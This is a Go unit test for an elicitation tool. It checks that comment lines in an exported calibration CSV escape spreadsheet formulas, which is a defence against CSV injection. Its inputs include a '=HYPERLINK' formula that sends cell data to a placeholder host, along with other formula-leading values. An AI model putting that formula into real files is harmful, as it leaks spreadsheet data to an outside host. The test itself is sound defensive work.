package record

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/parley-elicit/parley/elicit"
	"github.com/parley-elicit/parley/elicit/workshop"
)

// The calibration CSV's comment lines carry the workshop's title and each
// question's quantity and units. A spreadsheet opening the file splits
// those lines into cells at each comma (at each semicolon where that is
// the list separator), and a cell that begins with =, +, - or @ runs as a
// formula: a title "Seals,=HYPERLINK(…)" (typed, or in a record someone
// else exported) ran one, where WriteCSV and the names' column guard
// theirs (OWASP, "CSV Injection"). Every cell of every comment line is
// guarded with an apostrophe, as cell does; the first cell is the "#".
func TestCalibrationCSVCommentsRunNoFormula(t *testing.T) {
	q := workshop.Question{ID: 1, Position: 1, Quantity: `leak share,=HYPERLINK("http://example.invalid/?"&A1)`,
		Units: `percent;@SUM(1+1),"+1",  -2`, Lower: 0, Upper: 1}
	set := workshop.CalibrationSet{
		Probs:     []float64{0.05, 0.5, 0.95},
		Questions: []workshop.Question{q},
		Experts:   []workshop.Expert{{ID: 1, Name: "Ada"}},
		Assessments: []elicit.SeedAssessment{{Expert: workshop.SeedExpertKey(1), Question: workshop.SeedQuestionKey(1),
			Probs: []float64{0.05, 0.5, 0.95}, Quantiles: []float64{0.1, 0.2, 0.4}}},
		Realisations: map[string]float64{workshop.SeedQuestionKey(1): 0.3},
		Bounds:       map[string][2]float64{workshop.SeedQuestionKey(1): {0, 1}},
	}
	var b strings.Builder
	if err := WriteCalibrationCSV(&b, "Seals (invented),=1+1; -2+3,@A1", set, nil); err != nil {
		t.Fatal(err)
	}
	comments := 0
	for _, line := range strings.Split(b.String(), "\n") {
		if !strings.HasPrefix(line, "#") {
			continue
		}
		comments++
		for _, sep := range []rune{',', ';'} {
			r := csv.NewReader(strings.NewReader(line))
			r.Comma, r.LazyQuotes, r.FieldsPerRecord = sep, true, -1
			cells, err := r.Read()
			if err != nil {
				t.Fatalf("%q split at %q: %v", line, sep, err)
			}
			for _, c := range cells {
				if c = strings.TrimLeft(c, ` "`); c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
					t.Errorf("comment %q split at %q has the cell %q, a formula", line, sep, c)
				}
			}
		}
	}
	if comments != 3 {
		t.Errorf("%d comment lines, want 3:\n%s", comments, b.String())
	}
	// The words are kept, with the apostrophes only.
	if !strings.Contains(b.String(), "# Calibration answers scored for the workshop Seals (invented),'=1+1; '-2+3,'@A1, written by Parley.\n") {
		t.Errorf("the title's line:\n%s", b.String())
	}
}
